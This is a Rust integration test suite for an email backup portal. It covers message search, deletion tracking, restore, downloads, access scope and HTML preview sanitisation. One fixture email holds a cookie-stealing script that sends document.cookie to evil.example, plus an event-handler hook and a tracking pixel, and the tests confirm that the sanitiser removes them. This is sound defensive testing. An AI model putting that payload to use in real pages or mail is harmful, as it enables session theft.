//! Messages inside backups against a real Dovecot: a message deleted at the mail server is
//! found by the next backup as deleted, found by search, restored into its folder byte for
//! byte and seen again by the mail server; HTML previews without scripts or remote images;
//! search filters, sorting, scope and its errors; the index built for backups that predate it.
//! Runs on SQLite, and on PostgreSQL when PORTAL_TEST_POSTGRES is set (same tests).

mod common;

use std::time::{Duration, SystemTime};

use axum::http::{header, Method, StatusCode};
use common::imap::Imap;
use common::*;
use portal_api::{JobStatus, MessageHit, MessagePreview, Page, Role};
use serde_json::json;
use testkit::{message, Seed, User};

fn seed(folder: &str, raw: Vec<u8>, days_ago: u64) -> Seed {
    Seed { folder: folder.into(), raw, flags: "S".into(), arrived: SystemTime::now() - Duration::from_secs(days_ago * 86_400) }
}

async fn search(imap: &Imap, client: &Client, query: &str) -> Page<MessageHit> {
    let response = imap.app.get_as(client, &format!("/api/messages?{query}")).await;
    assert_eq!(response.status(), StatusCode::OK, "{query}");
    body_json(response).await
}

fn subjects(page: &Page<MessageHit>) -> Vec<&str> {
    page.items.iter().map(|hit| hit.subject.as_str()).collect()
}

const HTML_MESSAGE: &str = "From: News <news@shop.example>\r\nTo: alice@imap.test\r\nSubject: Weekly offers\r\n\
Message-ID: <offers@shop.example>\r\nDate: Tue, 03 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/alternative; boundary=\"B\"\r\n\r\n--B\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
Offers of the week: umbrellas.\r\n--B\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
<html><body><h1 onmouseover=\"steal()\">Offers</h1><p>Umbrellas <b>half price</b></p>\
<script>document.location='https://evil.example/?'+document.cookie</script>\
<img src=\"https://tracker.example/open.gif?u=alice\" alt=\"\"></body></html>\r\n--B--\r\n";

#[tokio::test]
async fn a_message_deleted_at_the_server_is_found_as_deleted_searched_restored_byte_for_byte_and_seen_again() {
    let imap = Imap::start(&[User::new("alice", "alice-pw")]).await;
    let mut mail = testkit::sample_mail("alice@imap.test");
    mail.push(seed("INBOX", message("ceo@acme.example", "alice@imap.test", "Budget approval", "budget@acme", "The quarterly budget is approved."), 4));
    mail.push(seed("INBOX", HTML_MESSAGE.as_bytes().to_vec(), 2));
    imap.dovecot.seed("alice", &mail).unwrap();
    let alice = imap.add("alice@imap.test", "alice", "alice-pw").await;
    imap.run().await;
    let original = imap.dovecot.stored("alice", "INBOX");

    // Every message the backup took is found, newest first, with its folder and snippet.
    let admin = &imap.admin;
    let all = search(&imap, admin, &format!("mailbox_id={}", alice.id)).await;
    assert_eq!(all.total, 8, "{:?}", subjects(&all));
    let budget = search(&imap, admin, "q=quarterly%20budg").await;
    assert_eq!(subjects(&budget), ["Budget approval"], "every word, the last as the start of one");
    let hit = &budget.items[0];
    assert_eq!((hit.folder.as_str(), hit.from.as_str(), hit.deleted_at.as_deref()), ("INBOX", "ceo@acme.example", None));
    assert!(hit.snippet.iter().any(|part| part.hit && part.text.eq_ignore_ascii_case("quarterly")), "{:?}", hit.snippet);
    // Filters: sender, attachments, folder, dates, and an order.
    assert_eq!(subjects(&search(&imap, admin, "from=BEA%40partner").await).len(), 3);
    assert_eq!(subjects(&search(&imap, admin, "has_attachment=true").await), ["Figures"]);
    assert_eq!(subjects(&search(&imap, admin, "folder=Archive%2F2024").await), ["Old"]);
    assert_eq!(subjects(&search(&imap, admin, "q=umbrellas&after=2026-11-03&before=2026-11-03").await), ["Weekly offers"]);
    assert_eq!(search(&imap, admin, "q=umbrellas&before=2026-11-02").await.total, 0);
    assert_eq!(subjects(&search(&imap, admin, "q=gr%C3%BC%C3%9Fe").await), ["Grüße aus Köln"], "non-ASCII words");
    let largest = search(&imap, admin, "sort=largest&per_page=1").await;
    assert_eq!((subjects(&largest), largest.total), (vec!["Weekly offers"], 8));

    // Deleted at the mail server: the next backup marks it, keeps it, and search finds it.
    assert_eq!(imap.dovecot.delete("alice", "INBOX", b"budget@acme"), 1);
    imap.force(alice.id).await;
    imap.run().await;
    let deleted = search(&imap, admin, "deleted=true").await;
    assert_eq!(subjects(&deleted), ["Budget approval"]);
    assert!(deleted.items[0].deleted_at.is_some());
    assert_eq!(search(&imap, admin, "deleted=false").await.total, 7);
    let recent = search(&imap, admin, &format!("mailbox_id={}&sort=recently_deleted", alice.id)).await;
    assert_eq!(subjects(&recent)[0], "Budget approval", "recently deleted first");

    // Restored into its folder: the mail server has it again, byte for byte.
    let id = deleted.items[0].id;
    let restore = imap
        .start_job(json!({ "kind": "restore", "mailbox_id": alice.id, "messages": [id], "restore_to": "original_folder" }))
        .await;
    assert!(restore.target.contains("1 chosen message"), "{}", restore.target);
    imap.run().await;
    assert_eq!(imap.job(&restore.id).await.status, JobStatus::Completed);
    let back = imap.dovecot.stored("alice", "INBOX");
    let raw = |stored: &[testkit::Stored]| {
        let mut raws: Vec<Vec<u8>> = stored.iter().map(|m| m.raw.clone()).collect();
        raws.sort();
        raws
    };
    assert_eq!(raw(&back), raw(&original), "the folder holds what it held before the deletion");
    // The next backup finds it at the server again (a new UID), once more not deleted.
    imap.force(alice.id).await;
    imap.run().await;
    let found = search(&imap, admin, "q=budget&deleted=false").await;
    assert_eq!(subjects(&found), ["Budget approval"]);

    // Into a new folder, and as an EML download: jobs like any other.
    let into_new = imap
        .start_job(json!({ "kind": "restore", "mailbox_id": alice.id, "messages": [id], "restore_to": "new_folder" }))
        .await;
    imap.run().await;
    assert_eq!(imap.job(&into_new.id).await.status, JobStatus::Completed);
    let today = time::OffsetDateTime::now_utc().date();
    let restored_folder = format!("Restored {today}");
    assert_eq!(imap.dovecot.stored("alice", &restored_folder).len(), 1);
    let eml = imap.start_job(json!({ "kind": "download", "mailbox_id": alice.id, "messages": [id], "format": "eml" })).await;
    imap.run().await;
    let ready = imap.job(&eml.id).await;
    assert_eq!(ready.status, JobStatus::Completed);
    let response = imap.app.send(axum::http::Request::get(ready.download_url.unwrap()).body(axum::body::Body::empty()).unwrap()).await;
    assert_eq!(response.status(), StatusCode::OK);
    let bytes = axum::body::to_bytes(response.into_body(), 1 << 20).await.unwrap();
    assert!(bytes.windows(12).any(|w| w == b"<budget@acme"), "the EML is the message");

    // What a job of chosen messages refuses, each field named.
    let wrong = imap
        .app
        .send_as(admin, Method::POST, "/api/jobs", Some(json!({ "kind": "download", "mailbox_id": alice.id, "messages": [id, 1], "format": "eml" })))
        .await;
    let problem = problem(wrong, StatusCode::UNPROCESSABLE_ENTITY).await;
    let fields: Vec<&str> = problem.errors.iter().map(|e| e.field.as_str()).collect();
    assert_eq!(fields, ["messages", "format"], "{problem:?}");
}

#[tokio::test]
async fn html_previews_without_scripts_or_remote_images_and_attachments_download_one_by_one() {
    let imap = Imap::start(&[User::new("alice", "alice-pw")]).await;
    let mut mail = testkit::sample_mail("alice@imap.test");
    mail.push(seed("INBOX", HTML_MESSAGE.as_bytes().to_vec(), 2));
    imap.dovecot.seed("alice", &mail).unwrap();
    imap.add("alice@imap.test", "alice", "alice-pw").await;
    imap.run().await;
    let admin = &imap.admin;
    let offers = search(&imap, admin, "q=offers").await.items[0].id;

    let preview: MessagePreview = body_json(imap.app.get_as(admin, &format!("/api/messages/{offers}")).await).await;
    assert!(preview.has_html && preview.remote_images);
    assert_eq!(preview.text.trim(), "Offers of the week: umbrellas.");
    assert!(preview.headers.iter().any(|h| h.name == "From" && h.value == "News <news@shop.example>"), "{:?}", preview.headers);

    let response = imap.app.get_as(admin, &format!("/api/messages/{offers}/html")).await;
    assert_eq!(response.status(), StatusCode::OK);
    let policy = response.headers()[header::CONTENT_SECURITY_POLICY].to_str().unwrap().to_owned();
    assert!(policy.starts_with("sandbox allow-popups allow-popups-to-escape-sandbox;") && policy.contains("img-src data:;") && policy.contains("default-src 'none'"), "{policy}");
    assert_eq!(response.headers()[header::X_FRAME_OPTIONS], "SAMEORIGIN");
    let html = String::from_utf8(axum::body::to_bytes(response.into_body(), 1 << 20).await.unwrap().to_vec()).unwrap();
    assert!(html.contains("Umbrellas <b>half price</b>"), "{html}");
    for gone in ["<script", "document.cookie", "onmouseover", "tracker.example"] {
        assert!(!html.contains(gone), "{gone} in {html}");
    }
    // Remote images only when asked for; scripts never.
    let response = imap.app.get_as(admin, &format!("/api/messages/{offers}/html?images=remote")).await;
    assert!(response.headers()[header::CONTENT_SECURITY_POLICY].to_str().unwrap().contains("img-src data: https:"));
    let html = String::from_utf8(axum::body::to_bytes(response.into_body(), 1 << 20).await.unwrap().to_vec()).unwrap();
    assert!(html.contains("https://tracker.example/open.gif") && !html.contains("<script"), "{html}");

    // The attachment, by its number, as a download.
    let figures = search(&imap, admin, "has_attachment=true").await.items[0].id;
    let preview: MessagePreview = body_json(imap.app.get_as(admin, &format!("/api/messages/{figures}")).await).await;
    assert_eq!(preview.attachments.len(), 1);
    assert_eq!((preview.attachments[0].name.as_str(), preview.attachments[0].size), ("figures.bin", 32));
    let response = imap.app.get_as(admin, &format!("/api/messages/{figures}/attachments/0")).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert!(response.headers()[header::CONTENT_DISPOSITION].to_str().unwrap().starts_with("attachment; filename=\"figures.bin\""));
    let bytes = axum::body::to_bytes(response.into_body(), 1 << 20).await.unwrap();
    assert_eq!(bytes.to_vec(), (0u8..32).collect::<Vec<u8>>());
    problem(imap.app.get_as(admin, &format!("/api/messages/{figures}/attachments/1")).await, StatusCode::NOT_FOUND).await;
    problem(imap.app.get_as(admin, &format!("/api/messages/{figures}/html")).await, StatusCode::NOT_FOUND).await;
}

#[tokio::test]
async fn search_keeps_to_the_users_scope_and_names_what_is_wrong() {
    let imap = Imap::start(&[User::new("alice", "alice-pw")]).await;
    imap.dovecot.seed("alice", &testkit::sample_mail("alice@imap.test")).unwrap();
    imap.add("alice@imap.test", "alice", "alice-pw").await;
    imap.run().await;
    let id = search(&imap, &imap.admin, "q=plan").await.items[0].id;

    // Another reseller and another mailbox's end user see none of it: 404, not 403.
    let other = imap.app.sign_in_as("reseller@harbour.example").await;
    assert_eq!(search(&imap, &other, "").await.total, 0);
    problem(imap.app.get_as(&other, &format!("/api/messages/{id}")).await, StatusCode::NOT_FOUND).await;
    let end_user = imap.app.sign_in(Role::EndUser).await;
    assert_eq!(search(&imap, &end_user, "q=plan").await.total, 0);
    problem(imap.app.get_as(&end_user, &format!("/api/messages/{id}/html")).await, StatusCode::NOT_FOUND).await;
    problem(imap.app.get_as(&end_user, &format!("/api/messages/{id}/attachments/0")).await, StatusCode::NOT_FOUND).await;
    // A reseller sees its organisations' messages.
    let reseller = imap.app.sign_in(Role::Reseller).await;
    assert_eq!(search(&imap, &reseller, "q=plan").await.total, 1);

    let wrong = imap.app.get_as(&imap.admin, "/api/messages?sort=best&after=yesterday&per_page=0").await;
    let problem = problem(wrong, StatusCode::UNPROCESSABLE_ENTITY).await;
    let mut fields: Vec<&str> = problem.errors.iter().map(|e| e.field.as_str()).collect();
    fields.sort();
    assert_eq!(fields, ["after", "per_page", "sort"], "{problem:?}");
}

#[tokio::test]
async fn backups_that_predate_the_index_are_indexed_once_and_a_deletion_seen_meanwhile_is_kept() {
    let imap = Imap::start(&[User::new("alice", "alice-pw")]).await;
    imap.dovecot.seed("alice", &testkit::sample_mail("alice@imap.test")).unwrap();
    imap.add("alice@imap.test", "alice", "alice-pw").await;
    imap.run().await;
    // As a backup made before the index existed: no index rows.
    sqlx::query("DELETE FROM message_search").execute(&imap.app.db).await.unwrap();
    sqlx::query("UPDATE backup_messages SET indexed = 0").execute(&imap.app.db).await.unwrap();
    assert_eq!(search(&imap, &imap.admin, "").await.total, 0);
    // A deletion a backup noticed before the message was indexed is in the index too.
    sqlx::query("UPDATE backup_messages SET deleted_at = 1700000000000 WHERE folder = 'Work'").execute(&imap.app.db).await.unwrap();
    let indexed = portal_server::search::indexer::run(&imap.app.db, &imap.app.state.store).await.unwrap();
    assert_eq!(indexed, 6);
    assert_eq!(subjects(&search(&imap, &imap.admin, "q=plan").await), ["Plan"]);
    assert_eq!(subjects(&search(&imap, &imap.admin, "deleted=true").await), ["Plan"]);
    assert_eq!(portal_server::search::indexer::run(&imap.app.db, &imap.app.state.store).await.unwrap(), 0, "once");
}

#[tokio::test]
async fn chosen_messages_that_retention_removed_meanwhile_are_named_never_silently_left_out() {
    let imap = Imap::start(&[User::new("alice", "alice-pw")]).await;
    imap.dovecot.seed("alice", &testkit::sample_mail("alice@imap.test")).unwrap();
    let alice = imap.add("alice@imap.test", "alice", "alice-pw").await;
    imap.run().await;
    let ids: Vec<i64> = search(&imap, &imap.admin, "folder=INBOX&sort=oldest").await.items.iter().map(|m| m.id).collect();
    let restore = imap.start_job(json!({ "kind": "restore", "mailbox_id": alice.id, "messages": [ids[0], ids[1]], "restore_to": "new_folder" })).await;
    let download = imap.start_job(json!({ "kind": "download", "mailbox_id": alice.id, "messages": [ids[0], ids[1]], "format": "eml_zip" })).await;
    let lone = imap.start_job(json!({ "kind": "download", "mailbox_id": alice.id, "messages": [ids[0]], "format": "eml" })).await;
    // As the pruning would, before the jobs run: the oldest message leaves the backup.
    let (folder, uid): (String, i64) = sqlx::query_as("SELECT folder, uid FROM message_search WHERE id = $1").bind(ids[0]).fetch_one(&imap.app.db).await.unwrap();
    for table in ["message_search", "backup_messages"] {
        sqlx::query(&format!("DELETE FROM {table} WHERE mailbox_id = $1 AND folder = $2 AND uid = $3"))
            .bind(alice.id)
            .bind(&folder)
            .bind(uid)
            .execute(&imap.app.db)
            .await
            .unwrap();
    }
    imap.run().await;
    // A download has no Partially Complete (design.md): its file is ready and says what it lacks.
    for (job, status) in [(&restore.id, JobStatus::PartiallyComplete), (&download.id, JobStatus::Completed)] {
        assert_eq!(imap.job(job).await.status, status, "{job}");
        let skipped = imap.skipped(job).await;
        assert_eq!(skipped.len(), 1, "{skipped:?}");
        assert!(skipped[0].item == format!("INBOX, UID {uid}") && skipped[0].reason.contains("retention"), "{skipped:?}");
    }
    let today = time::OffsetDateTime::now_utc().date();
    assert_eq!(imap.dovecot.stored("alice", &format!("Restored {today}")).len(), 1, "the other one was restored");
    let failed = imap.job(&lone.id).await;
    assert_eq!(failed.status, JobStatus::Failed);
    assert!(failed.run.detail.unwrap_or_default().contains("no longer in the backup"));
    // Its preview is gone too: 404, not an error.
    problem(imap.app.get_as(&imap.admin, &format!("/api/messages/{}", ids[0])).await, StatusCode::NOT_FOUND).await;
}
